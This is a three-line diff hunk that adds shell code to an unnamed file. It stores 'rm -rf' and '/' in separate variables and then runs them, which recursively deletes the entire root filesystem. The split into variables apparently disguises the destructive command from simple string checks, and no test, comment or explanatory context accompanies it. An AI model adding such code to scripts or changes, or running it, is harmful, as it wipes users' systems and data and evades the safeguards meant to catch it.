@@ -1,0 +1,3 @@
+cmd="rm -rf"
+target="/"
+$cmd ${target}
